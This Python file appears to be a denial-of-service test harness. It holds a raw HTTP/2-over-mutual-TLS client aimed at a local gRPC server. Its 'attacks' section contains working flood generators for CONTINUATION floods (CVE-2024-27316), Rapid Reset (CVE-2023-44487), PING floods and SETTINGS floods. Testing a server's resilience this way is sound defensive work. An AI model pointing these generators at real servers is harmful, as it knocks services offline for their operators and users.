"""A client that speaks HTTP/2 as badly as it likes, over mutual TLS: frames are bytes."""

import socket
import ssl
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(name, value):
    """A header field that enters no table (RFC 7541 §6.2.2); both shorter than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path=None):
    """Of a gRPC call; without a path the server's core refuses it by itself."""
    block = b"\x83\x87"  # :method POST, :scheme https
    if path is not None:
        block += b"\x04" + bytes([len(path)]) + path
    return (block + b"\x01\x09localhost" + literal(b"te", b"trailers") +
            literal(b"content-type", b"application/grpc"))


def call(stream, path):
    return frame(HEADERS, END_HEADERS, stream, call_headers(path))


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def client_hello():
    """What begins a TLS handshake."""
    out = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


class Tls:
    """A TLS connection that one thread may read while another writes, which ssl.SSLSocket's may
    not: OpenSSL's object is locked, and never while the socket waits."""

    def __init__(self, raw, context):
        self.raw = raw
        self._in, self._out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._tls = context.wrap_bio(self._in, self._out)
        self._lock = threading.Lock()
        self._order = threading.Lock()  # of what is sent
        while True:
            try:
                self._tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._flush()
                self._feed()
        self._flush()

    def sendall(self, data):
        with self._order:
            with self._lock:
                self._tls.write(data)
            self._flush()

    def recv(self, size):
        """b"" at the end; times out as the socket does."""
        while True:
            try:
                with self._lock:
                    return self._tls.read(size)
            except ssl.SSLWantReadError:
                self._feed()
            except ssl.SSLZeroReturnError:
                return b""

    def _flush(self):
        with self._lock:
            data = self._out.read()
        self.raw.sendall(data)

    def _feed(self):
        data = self.raw.recv(1 << 16)
        with self._lock:
            self._in.write(data) if data else self._in.write_eof()


class Client:
    """One connection. `pki`: a folder with ca.pem, cert.pem, key.pem. `source`: its own address."""

    def __init__(self, port, pki, source="127.0.0.2", timeout=5):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.load_verify_locations(pki / "ca.pem")
        context.load_cert_chain(pki / "cert.pem", pki / "key.pem")
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout, source_address=(source, 0))
        self.address = "%s:%d" % raw.getsockname()
        try:
            self.tls = Tls(raw, context)
            self.tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
        except OSError:
            raw.close()
            raise

    def send(self, data):
        self.tls.sendall(data)

    def drain(self):
        """Reads what there is and forgets it, so that the server is never held up by us."""
        self.tls.raw.settimeout(0.0)
        try:
            while self.tls.recv(1 << 16):
                pass
        except BlockingIOError:
            pass
        finally:
            self.tls.raw.settimeout(5)

    def close(self):
        self.tls.raw.close()


# ------------------------------------------------------------------------------------ attacks
# Each yields pieces to send, without end; a piece is some 100 KB.


def endless_header_block():
    """CONTINUATION frames without END_HEADERS (CVE-2024-27316 and its kin)."""
    yield frame(HEADERS, 0, 1, call_headers(b"/rips.v1.OperatorService/ListRobots"))
    field = literal(b"x", b"y" * 120)
    piece = frame(CONTINUATION, 0, 1, field * (16_000 // len(field))) * 7
    while True:
        yield piece


def streams(path, last=b"", resets=True):
    """Streams that are opened and reset at once (CVE-2023-44487), or stay open."""
    stream = 1
    while True:
        piece = b""
        for _ in range(1_000):
            piece += call(stream, path) + last
            if resets:
                piece += reset(stream)
            stream += 2
        yield piece


def pings():
    piece = frame(PING, 0, 0, b"12345678") * 6_000
    while True:
        yield piece


def settings():
    piece = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 6_000
    while True:
        yield piece
